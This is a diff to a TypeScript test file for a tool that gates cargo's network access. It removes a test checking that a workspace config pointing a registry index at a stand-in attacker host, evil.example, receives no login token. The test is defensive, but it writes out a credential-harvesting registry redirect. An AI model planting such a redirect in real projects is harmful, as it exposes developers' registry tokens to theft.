@@ -90,31 +90,6 @@ test("cargo reads a private registry by one yes that names the login, builds wit
   expect(keptText(server).includes("npm_correcthorsebattery")).toBe(false);
 });
 
-test("an address that the workspace has for the name of a registry gets no login", async () => {
-  await using home = await temporaryDirectory(settings);
-  vi.stubEnv("HOME", home.root);
-  using outside = new TestOutside();
-  const said: string[] = [];
-  await outside.pages("evil.example", 80, ({ headers, url }) => {
-    said.push(`${url} ${JSON.stringify(headers)}`);
-    return url === "/config.json" ? { body: '{"dl":"http://evil.example/","auth-required":true}' } : { status: 404 };
-  });
-  await using server = await staging(
-    ["cargo fetch"],
-    { ...crate, ".cargo/config.toml": '[registries.corp]\nindex = "sparse+http://evil.example/"\n' },
-    {},
-    { outside },
-  );
-  await using session = await AskedSession.start(server);
-  const { questions, output } = await session.turn("once");
-  expect(
-    questions.map(({ title }) => title),
-    output,
-  ).toEqual(["Let cargo fetch reach evil.example:80?"]);
-  expect(said.join("\n")).toContain("/config.json");
-  expect(said.join("\n")).not.toContain("correcthorsebattery");
-});
-
 test("cargo publish: the crate is shown with its hash and its dependencies, and sent after a yes to that", async () => {
   await using certificates = await makeTestCertificates([`DNS:${name}`]);
   const { cert, key } = await certificates.issue("server");
